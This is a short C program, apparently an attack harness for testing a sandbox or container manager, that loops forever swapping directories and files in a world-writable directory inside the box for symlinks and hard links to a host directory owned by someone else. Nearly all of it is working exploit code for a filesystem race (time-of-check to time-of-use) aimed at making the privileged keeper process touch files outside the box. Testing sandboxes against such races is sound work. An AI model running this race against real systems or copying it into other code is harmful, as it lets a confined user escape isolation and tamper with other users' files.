/* Run outside, as the owner of a box that is not root: swaps things in the box under the keeper's
 * hands until it is killed. DIRECTORY: one in the box that everybody may write to. TARGET: a
 * directory of the host that is somebody else's. */
#include "attack.h"

int main(int argc, char **argv) {
  int at = open(argv[1], O_RDONLY | O_DIRECTORY);
  const char *target = argv[2];
  char file[PATH_MAX];
  snprintf(file, sizeof file, "%s/file", target);
  if (at < 0)
    return 1;
  write(1, "racing\n", 7);
  for (;;) {
    /* A directory becomes a link to the target and a directory again. */
    mkdirat(at, "a", 0777);
    int below = openat(at, "a", O_RDONLY | O_DIRECTORY);
    fchmod(below, 0777);
    close(openat(below, "file", O_WRONLY | O_CREAT, 0666));
    mkdirat(below, "b", 0777);
    renameat(at, "a", at, "c");
    symlinkat(target, at, "a");
    renameat2(at, "a", at, "c", RENAME_EXCHANGE);
    renameat2(at, "a", at, "c", RENAME_EXCHANGE);
    unlinkat(at, "a", 0);
    renameat(at, "c", at, "a");
    /* So does a file in it. */
    unlinkat(below, "file", 0);
    symlinkat(file, below, "file");
    unlinkat(below, "file", 0);
    linkat(AT_FDCWD, file, below, "file", 0);
    unlinkat(below, "file", 0);
    /* A directory moves up and down. */
    renameat(below, "b", at, "b");
    renameat(at, "b", below, "b");
    close(below);
  }
}
